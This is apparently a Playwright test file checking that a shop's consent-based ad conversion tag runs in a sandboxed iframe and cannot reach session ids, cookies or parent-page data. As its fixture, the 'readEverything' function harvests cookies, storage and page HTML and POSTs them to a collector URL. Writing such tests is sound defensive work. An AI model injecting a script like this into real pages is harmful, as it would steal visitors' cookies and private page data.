import { hash } from 'node:crypto';
import { type APIRequestContext, type Page, expect, test } from '@playwright/test';
import { numberFrom, numberedText } from '../../src/contract/order-number.ts';
import { ORDERS } from '../catalog.ts';
import { directivesOf, headerFaults, policyFaults } from '../headers.ts';
import { SESSION, orderFor } from './answers.ts';
import { ADS_CONVERSION, SITE_URL } from './site.ts';
import { DEEP_ONLY } from './devices.ts';

const TAG = 'https://www.googletagmanager.com';
/** The order number of SESSION. */
const ORDER_NUMBER = numberFrom(hash('sha256', numberedText(SESSION), 'buffer'));
const COLLECTOR = 'https://www.google.com/collected';

/** Sends the collector everything that a script in place of Google's tag could read. */
const readEverything = (collector: string): void => {
  const found: Record<string, unknown> = {};
  const read = (name: string, get: () => unknown): void => {
    try {
      found[name] = get();
    } catch (error) {
      found[name] = error instanceof DOMException ? error.name : String(error);
    }
  };
  read('address', () => location.href);
  read('history', () => history.state);
  read('entries', () => performance.getEntries().map(({ name }) => name));
  read('page', () => document.documentElement.outerHTML);
  read('referrer', () => document.referrer);
  read('cookies', () => document.cookie);
  read('localStorage', () => ({ ...localStorage }));
  read('sessionStorage', () => ({ ...sessionStorage }));
  read('databases', () => indexedDB.open('shop').readyState);
  const { parent } = window;
  read('parentAddress', () => parent.location.href);
  read('parentHistory', () => parent.history.state);
  read('parentEntries', () => parent.performance.getEntries().map(({ name }) => name));
  read('parentPage', () => parent.document.documentElement.outerHTML);
  read('parentCookies', () => parent.document.cookie);
  read('parentStorage', () => ({ ...parent.localStorage }));
  void fetch(collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) });
};

type Request = {
  url: string;
  referer: string | undefined;
  cookie: string | undefined;
  body: string | null;
};

/**
 * Mocks the shop for a buyer. Every session is paid unless its id ends with another status.
 * Requests to other sites are recorded and get a mock response.
 */
const mockBuyer = async (page: Page, tag = '') => {
  await page.route('**/api/verify-payment', (route) => {
    const { sessionId } = route.request().postDataJSON();
    const [, status] = /_(pending|refunded|unpaid)$/.exec(sessionId) ?? [];
    const order = { ...orderFor('individual_guide_6_10'), stripe_session_id: sessionId };
    return route.fulfill({
      json: status === 'unpaid' ? { status, order: null } : { status: status ?? 'paid', order },
    });
  });
  const externalRequests: Request[] = [];
  await page.route(
    ({ origin }) => origin !== SITE_URL,
    async (route) => {
      const request = route.request();
      const { referer, cookie } = await request.allHeaders();
      externalRequests.push({ url: request.url(), referer, cookie, body: request.postData() });
      return route.fulfill({ contentType: 'text/javascript', body: tag });
    },
  );
  return {
    externalRequests,
    question: page.getByText('May we tell our ad service'),
    /** Opens the page of an order and waits until it has sent its requests. */
    open: async (session: string, text = 'Order confirmed'): Promise<void> => {
      await page.goto(`/payment-success?session_id=${session}`);
      await page.getByText(text).waitFor();
      await page.waitForLoadState('networkidle');
    },
    decide: async (name: string): Promise<void> => {
      await page.getByRole('button', { name }).click();
      await page.getByText('Thank you. We’ll remember that.').waitFor();
    },
  };
};

const SPYING_TAG = `(${readEverything})(${JSON.stringify(COLLECTOR)})`;

test('hides the session id and the shop’s page from a script that replaces the ad tag', async ({
  page,
}) => {
  const { externalRequests, open, decide } = await mockBuyer(page, SPYING_TAG);
  await page.context().addCookies([{ name: 'shop', value: 'secret-cookie', url: SITE_URL }]);
  await open(SESSION);
  await decide('Yes, that’s fine');
  await expect.poll(() => externalRequests.map(({ url }) => url)).toContain(COLLECTOR);
  expect(JSON.stringify(externalRequests)).not.toMatch(new RegExp(`${SESSION}|secret-cookie`));
  const { body } = externalRequests.find(({ url }) => url === COLLECTOR) ?? {};
  expect(JSON.parse(body ?? '')).toMatchObject({
    address: `${SITE_URL}/conversion?order=${ORDER_NUMBER}&value=8.99&currency=USD`,
    history: null,
    referrer: '',
    cookies: 'SecurityError',
    localStorage: 'SecurityError',
    sessionStorage: 'SecurityError',
    databases: 'SecurityError',
    parentAddress: 'SecurityError',
    parentHistory: 'SecurityError',
    parentEntries: 'SecurityError',
    parentPage: 'SecurityError',
    parentCookies: 'SecurityError',
    parentStorage: 'SecurityError',
  });
});

/** The commands that the framed page has queued for the tag. */
const commandsOf = async (page: Page): Promise<unknown[][]> => {
  const frame = page.frames().find((candidate) => candidate.parentFrame() !== null);
  return (
    frame?.evaluate(() =>
      (window.dataLayer ?? []).map((command) => Array.from(command as ArrayLike<unknown>)),
    ) ?? []
  );
};

test('reports a paid order after consent, only once and without cookies or a referrer', async ({
  page,
}) => {
  const { externalRequests, question, open, decide } = await mockBuyer(page);
  await open(SESSION);
  await question.waitFor();
  expect(externalRequests).toEqual([]);
  await decide('Yes, that’s fine');
  await expect
    .poll(() => externalRequests)
    .toEqual([
      { url: `${TAG}/gtag/js?id=AW-123456789`, referer: undefined, cookie: undefined, body: null },
    ]);
  const frame = page.locator('iframe');
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  await expect(frame).toBeHidden();
  const consent = { ad_storage: 'granted', ad_personalization: 'denied' };
  const place = {
    page_location: `${SITE_URL}/conversion`,
    page_referrer: '',
    send_page_view: false,
  };
  const order = { value: 8.99, currency: 'USD', transaction_id: ORDER_NUMBER };
  expect(await commandsOf(page)).toEqual([
    ['js', expect.anything()],
    ['consent', 'default', expect.objectContaining(consent)],
    ['config', 'AW-123456789', expect.objectContaining(place)],
    ['event', 'conversion', { send_to: ADS_CONVERSION, ...order }],
  ]);

  await open(SESSION);
  await expect(frame).toHaveCount(0);
  expect(externalRequests).toHaveLength(1);
});

test('does not ask for consent if the order is not paid', DEEP_ONLY, async ({ page }) => {
  const { externalRequests, question, open } = await mockBuyer(page);
  await open('cs_test_pending', ORDERS.pending.text);
  await open('cs_test_refunded', ORDERS.refunded.heading);
  await open('cs_test_unpaid', ORDERS.notSeen.text);
  await expect(question).toHaveCount(0);
  expect(externalRequests).toEqual([]);
});

test('does not report orders after the buyer declines', DEEP_ONLY, async ({ page }) => {
  const { externalRequests, question, open, decide } = await mockBuyer(page);
  await open(SESSION);
  await decide('No, thank you');
  await open('cs_test_second');
  await expect(question).toHaveCount(0);
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(externalRequests).toEqual([]);
});

test(
  'reports later orders without asking again until the buyer opts out',
  DEEP_ONLY,
  async ({ page }) => {
    const { externalRequests, question, open, decide } = await mockBuyer(page);
    await open(SESSION);
    await decide('Yes, that’s fine');
    await expect.poll(() => externalRequests).toHaveLength(1);
    await open('cs_test_second');
    await expect.poll(() => externalRequests).toHaveLength(2);
    await expect(question).toHaveCount(0);
    await decide('Stop telling it about new orders');
    await open('cs_test_third');
    await expect(page.locator('iframe')).toHaveCount(0);
    expect(externalRequests).toHaveLength(2);
  },
);

const VALID_ORDER = { order: '1B19-E30D-4012', value: '8.99', currency: 'USD' };
const addressOf = (order: Partial<typeof VALID_ORDER>): string =>
  `/conversion?${new URLSearchParams(order)}`;

/** Adds a frame to /payment-success, as another script on the page could. */
const addFrame = (page: Page, address: string, sandbox: string | null): Promise<void> =>
  page.evaluate(
    ([src, flags]) =>
      new Promise<void>((resolve) => {
        const frame = document.createElement('iframe');
        if (flags !== null) frame.setAttribute('sandbox', flags);
        frame.addEventListener('load', () => resolve());
        frame.src = src;
        document.body.append(frame);
      }),
    [address, sandbox] as const,
  );

test(
  'loads the ad tag only with a valid order number, value and currency',
  DEEP_ONLY,
  async ({ page }) => {
    const { externalRequests, open } = await mockBuyer(page);
    await open('cs_test_unpaid', ORDERS.notSeen.text);
    const { value, currency, order } = VALID_ORDER;
    for (const { name, query } of [
      { name: 'no parameters', query: {} },
      { name: 'no currency', query: { order, value } },
      { name: 'no value', query: { order, currency } },
      { name: 'no order', query: { value, currency } },
      { name: 'a session id as the order', query: { ...VALID_ORDER, order: SESSION } },
      { name: 'a lowercase order', query: { ...VALID_ORDER, order: '1b19-e30d-4012' } },
      { name: 'an order that is too long', query: { ...VALID_ORDER, order: `${order}-0000` } },
      { name: 'an empty value', query: { ...VALID_ORDER, value: '' } },
      { name: 'a negative value', query: { ...VALID_ORDER, value: '-8.99' } },
      { name: 'a value in exponential notation', query: { ...VALID_ORDER, value: '1e3' } },
      { name: 'an infinite value', query: { ...VALID_ORDER, value: 'Infinity' } },
      { name: 'a lowercase currency', query: { ...VALID_ORDER, currency: 'usd' } },
      { name: 'a currency with a symbol', query: { ...VALID_ORDER, currency: 'US$' } },
      { name: 'a currency that is too long', query: { ...VALID_ORDER, currency: 'USDT' } },
    ]) {
      await addFrame(page, addressOf(query), 'allow-scripts');
      expect(externalRequests, name).toEqual([]);
    }
    await addFrame(page, addressOf(VALID_ORDER), 'allow-scripts');
    await expect.poll(() => externalRequests).toHaveLength(1);
  },
);

test('does not load the ad tag if /conversion is opened directly', DEEP_ONLY, async ({ page }) => {
  const { externalRequests } = await mockBuyer(page);
  await page.goto(addressOf(VALID_ORDER)).catch(() => undefined);
  await page.waitForLoadState('networkidle');
  expect(externalRequests).toEqual([]);
});

test(
  'gives /conversion an opaque origin regardless of the frame’s sandbox attribute',
  DEEP_ONLY,
  async ({ page }) => {
    const { externalRequests, open } = await mockBuyer(page, SPYING_TAG);
    await open('cs_test_unpaid', ORDERS.notSeen.text);
    await addFrame(page, addressOf(VALID_ORDER), 'allow-scripts allow-same-origin');
    await addFrame(page, addressOf(VALID_ORDER), null);
    const collected = () => externalRequests.filter(({ url }) => url === COLLECTOR);
    await expect.poll(collected).toHaveLength(2);
    for (const { body } of collected()) {
      const found = { cookies: 'SecurityError', parentAddress: 'SecurityError' };
      expect(JSON.parse(body ?? '')).toMatchObject(found);
    }
  },
);

/** The content security policy in a page's markup. */
const policyOf = async (request: APIRequestContext, at: string) => {
  const html = await (await request.get(at)).text();
  const [, policy = ''] = /content-security-policy" content="([^"]*)"/.exec(html) ?? [];
  expect(policyFaults(policy.replaceAll(/http:\/\/localhost:\d+/g, '')), at).toEqual([]);
  return directivesOf(policy);
};
const GOOGLE = /google|doubleclick/;

test('allows only Google’s hosts on /conversion, and none of them elsewhere', async ({
  request,
}) => {
  const allowed = await policyOf(request, '/conversion');
  expect(allowed.get('script-src')).toContain(TAG);
  expect(allowed.get('frame-src')).toEqual([TAG]);
  for (const name of ['connect-src', 'img-src']) {
    expect(allowed.get(name), name).toContain('https://www.googleadservices.com');
  }
  for (const name of ['default-src', 'script-src', 'connect-src', 'img-src', 'frame-src']) {
    expect(allowed.get(name), name).not.toContain("'self'");
  }
  for (const at of ['/', '/payment-success', '/guide-download', '/admin-upload', '/404']) {
    expect(JSON.stringify([...(await policyOf(request, at))]), at).not.toMatch(GOOGLE);
  }
});

test('allows frames only on /payment-success and only from the shop', async ({ request }) => {
  const allowed = await policyOf(request, '/payment-success');
  expect(allowed.get('frame-src')).toEqual(["'self'"]);
  for (const at of ['/', '/guide-download', '/admin-upload', '/404']) {
    const policy = await policyOf(request, at);
    expect([policy.get('default-src'), policy.get('frame-src')], at).toEqual([
      ["'none'"],
      undefined,
    ]);
  }
});

test('allows only /conversion to be framed, and only by the shop', async ({ request }) => {
  const pages = [
    { path: '/conversion', kind: 'frame' },
    { path: '/payment-success', kind: 'key' },
    { path: '/guide-download', kind: 'key' },
    { path: '/about', kind: 'site' },
  ] as const;
  for (const { path, kind } of pages) {
    const response = await request.get(path);
    expect(headerFaults(new Headers(response.headers()), kind), path).toEqual([]);
  }
});

test('excludes /conversion from search engines and the sitemap', async ({ request }) => {
  const html = await (await request.get('/conversion')).text();
  expect(html).toContain('<meta name="robots" content="noindex">');
  expect(html).toContain('<meta name="referrer" content="no-referrer">');
  expect(await (await request.get('/sitemap-0.xml')).text()).not.toContain('conversion');
});
